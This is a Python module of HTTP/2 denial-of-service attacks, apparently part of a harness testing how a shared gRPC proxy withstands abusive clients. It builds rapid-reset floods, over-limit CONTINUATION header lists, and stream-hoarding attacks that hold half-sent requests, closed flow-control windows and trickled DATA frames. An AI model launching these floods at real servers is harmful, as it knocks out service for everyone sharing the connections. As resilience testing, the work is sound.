"""What clients of a proxy can do to those who share its connections: for attacks.py --calls --proxy field.

Each is what a proxy may carry from its clients: requests that are sound one by one, cancelled, never ended, or never taken.
"""

import time

import frames
import honest_calls  # noqa: F401  (makes the stubs)
from frames import data, headers, message, rst_stream, window_update
from hoards import KEPT, NOBODYS
from sharing_proxy import FEW, STREAMS_OF_MANY, WINDOW
from latchkey.identity.v1 import auth_service_pb2
from latchkey.migration.v1 import record_service_pb2
from latchkey.qr.v1 import qr_session_service_pb2
from world import CLIENT_ID

# What a proxy carries of requests that are over at once, a second: its own work bounds them. Without a bound they would fill the
# kernel's buffers, and who comes after them on the same connection would wait for no other reason.
RATE, BURST = 5_000, 10
LARGE_RATE, LARGE_BURST = 1_000, 2
# Connections that a proxy has where its clients have more requests than a few of them carry: Envoy has some 1,000 at a time.
MANY = 12

CALLS = {
    "qr": (
        frames.ISSUE,
        qr_session_service_pb2.IssueSessionRequest(
            client_id=CLIENT_ID, purpose=qr_session_service_pb2.PURPOSE_LOGIN,
            code_challenge="A" * 43, code_challenge_method="S256",
        ),
    ),
    "identity": ("/latchkey.identity.v1.AuthService/Refresh", auth_service_pb2.RefreshRequest(refresh_token=NOBODYS)),
    "migrator": ("/latchkey.migration.v1.RecordService/ListRecords", record_service_pb2.ListRecordsRequest(collection="notes")),
}


def flood(making, rate=RATE, burst=BURST):
    """Requests that are over at once, on each connection that there is; `making(attacker, service)` is what makes one."""

    def make(service):
        def attack(attacker):
            one = making(attacker, service)
            begun = [connection.begin(burst, one, kept=False) for connection in attacker.proxy.all()[:FEW]]
            attacker.stop.wait(max(sum(map(len, begun)), 1) / rate)

        return attack

    return make


def cancelled(attacker, service):
    return lambda number: headers(number, raw=attacker.head(frames.CHECK)) + rst_stream(number)


def cancelled_calls(attacker, service):
    path, request = CALLS[service]
    body = message(request.SerializeToString())
    return lambda number: headers(number, raw=attacker.head(path)) + data(number, body) + rst_stream(number)


def long_header_lists(attacker, service):
    extra = [(f"x-{index}", "v" * 1000) for index in range(20)]

    def one(number):
        raw = attacker.head(frames.CHECK, *extra)
        first = headers(number, raw=raw[:16_000], flags=frames.END_STREAM)
        return first + frames.frame(frames.CONTINUATION, frames.END_HEADERS, number, raw[16_000:])

    return one


def hoard(connections, pieces, taking, going_on=None):
    """As many requests as a proxy carries on so many connections, which are kept for a while and cancelled then. Those that were
    refused are made again a second later.

    `pieces(attacker, service)` are (make, bytes of DATA), of which the next one is tried where there is no room for the one
    before; `going_on(connection, numbers)` is done again and again.
    """

    def make(service):
        def attack(attacker):
            held, made, end = {}, pieces(attacker, service), time.monotonic() + taking + KEPT
            while time.monotonic() < end and not attacker.stop.is_set():
                for connection in (attacker.proxy.all() + [None] * connections)[:connections]:
                    if attacker.stop.is_set():
                        break
                    connection = connection or attacker.proxy.connect()
                    for one, length in made:
                        held.setdefault(connection, []).extend(connection.begin(STREAMS_OF_MANY, one, length))
                until = time.monotonic() + 1
                while time.monotonic() < until and not attacker.stop.wait(0.1):
                    for connection, numbers in held.items() if going_on else ():
                        going_on(connection, numbers)
            for connection, numbers in held.items():
                connection.reset(numbers)

        return attack

    make.taking, make.kept = taking, KEPT
    return make


def silent(path):
    return lambda attacker, service: [(lambda number: headers(number, raw=attacker.head(path)), 0)]


def silent_requests(attacker, service):
    return silent(CALLS[service][0])(attacker, service)


def begun(attacker, path, body):
    """A request with so much of its body, which is all that comes."""
    pieces = [body[start : start + 16_000] for start in range(0, len(body), 16_000)]

    def one(number):
        return headers(number, raw=attacker.head(path)) + b"".join(data(number, piece, flags=0) for piece in pieces)

    return one, len(body)


def half_requests(attacker, service):
    """Of messages of which the rest does not come, so few bytes that a window is not half full; then fewer."""
    halves = [message(bytes(length), length=length + 1000) for length in (31_000, 1_000, 50)]
    return [begun(attacker, CALLS[service][0], half) for half in halves]


def asking(count):
    """Questions with long answers, of which the proxy takes the first 64 KiB: its client takes no more."""

    def pieces(attacker, service):
        symbol = CALLS[service][0].split("/")[1].encode()
        question = message(b"\x22" + bytes([len(symbol)]) + symbol)
        return [begun(attacker, frames.REFLECTION, question * min(most, WINDOW // len(question))) for most in (count, 20, 1)]

    return pieces


def little_windows(connection, numbers):
    """Its client takes a little now and then."""
    connection.go_on(b"".join(window_update(number, 1024) for number in numbers if number in connection.streams))


def tiny_data(attacker, service):
    return [begun(attacker, CALLS[service][0], message(length=4000))]


def bytes_of_it(connection, numbers):
    for number in [number for number in numbers if number in connection.streams][:5]:
        connection.go_on(data(number, b"x", flags=0) * 25, 25)


ATTACKS = {
    "cancelled requests": flood(cancelled),
    "cancelled calls": flood(cancelled_calls),
    "header lists over the limit": flood(long_header_lists, LARGE_RATE, LARGE_BURST),
    "tiny DATA frames": hoard(FEW, tiny_data, 1, bytes_of_it),
}
HOARDS = {
    "silent streams": (silent(frames.REFLECTION), None),
    "silent requests": (silent_requests, None),
    "half requests": (half_requests, None),
    "windows closed": (asking(20), None),
    "windows full of questions": (asking(WINDOW), None),
    "small windows": (asking(20), little_windows),
}
for name, (pieces, going_on) in HOARDS.items():
    ATTACKS[f"{name}, few connections"] = hoard(FEW, pieces, 1, going_on)
    ATTACKS[name] = hoard(MANY, pieces, 2, going_on)
